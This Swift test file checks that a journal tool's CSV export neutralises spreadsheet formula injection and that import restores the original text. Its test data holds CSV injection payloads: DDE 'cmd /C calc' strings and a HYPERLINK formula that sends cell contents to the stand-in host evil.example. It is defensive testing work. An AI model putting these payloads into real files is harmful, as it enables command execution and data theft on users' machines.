import Testing
@testable import UnitsKit
import UnitsTestSupport

/// No CSV that units writes lets a spreadsheet run a
/// formula from the journal, and the guard is undone exactly on import.
@Suite struct CSVFormulaGuardTests {
    @Test("formula triggers are neutralised, numbers and text are not", arguments: [
        ("=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("'=already quoted", "''=already quoted"),
        ("''@x", "'''@x"),
        ("-1", "-1"),
        ("+2.5", "+2.5"),
        ("-0.25", "-0.25"),
        ("-", "'-"),
        ("-1.2.3", "'-1.2.3"),
        ("'plain quote", "'plain quote"),
        ("a=b", "a=b"),
        ("2025-12-14", "2025-12-14"),
        ("", ""),
        ("Reading", "Reading"),
    ])
    func neutralised(text: String, expected: String) {
        #expect(CSV.neutralized(text) == expected)
        #expect(CSV.unneutralized(expected) == text)
    }

    @Test("the guard is a bijection: unneutralized(neutralized(x)) == x for generated fields")
    func roundTripProperty() {
        let alphabet: [String] = ["=", "+", "-", "@", "'", "\t", "\r", "1", ".", "a", ",", "\"", " ", "é"]
        var generator = TestSeed.generator()
        for _ in 0..<5_000 {
            let length = Int.random(in: 0...6, using: &generator)
            let text = (0..<length).map { _ in alphabet.randomElement(using: &generator)! }.joined()
            #expect(CSV.unneutralized(CSV.neutralized(text)) == text, "\(text.debugDescription)")
            // A field CSV writes never starts with a trigger a spreadsheet runs,
            // unless it is a plain number.
            let written = CSV.neutralized(text)
            if let first = written.first, "=@\t\r".contains(first) { Issue.record("unguarded \(written.debugDescription)") }
        }
    }

    static let journal = """
        2025-12-01 habit Reading
        2025-12-01 habit Debt
        2025-12-02 Reading 3 ; =HYPERLINK("http://evil.example/?"&A1,"click")
        2025-12-02 Reading 1 ; @SUM(1+1)*cmd|' /C calc'!A0
        2025-12-02 Debt -2 ; +cmd|' /C calc'!A0
        2025-12-03 Reading 2 ; '=not a formula twice
        2025-12-03 Reading 2 ; -sign at the start

        """

    @Test("units export --csv guards every field; import reads the notes back exactly")
    func exportGuardsAndImportRoundTrips() throws {
        let journal = Journal(parsing: Self.journal, path: "test.units")
        #expect(journal.diagnostics.isEmpty)
        let csv = JournalExport(journal).csv()
        let rows = try CSV.parse(Array(csv.utf8)).dropFirst()
        for row in rows {
            for field in row.fields {
                if let first = field.first, "=+@\t\r".contains(first) { Issue.record("unguarded field \(field)") }
                if field.hasPrefix("-") { #expect(field == "-2", "\(field)") }
            }
        }
        #expect(csv.contains("'=HYPERLINK"))
        #expect(csv.contains(",-2,"))   // a negative value stays a number
        let raw = JournalExport(journal).csv(guardFormulas: false)
        #expect(raw.contains("\"=HYPERLINK"))

        let imported = UnitsCSVImporter.parse(Array(csv.utf8), path: "export.csv", existing: Journal(parsing: ""))
        #expect(imported.problems.isEmpty, "\(imported.problems)")
        let back = Journal(parsing: imported.text, path: "back.units")
        #expect(back.entries.compactMap { back.note(of: $0) } == journal.entries.compactMap { journal.note(of: $0) })
    }

    @Test("report CSVs go through the same guard")
    func reportCSV() {
        var writer = CSVWriter()
        writer.row(["=1+1", "-3", "@x"])
        let text = writer.finish()
        #expect(text == "'=1+1,-3,'@x\r\n")
    }
}
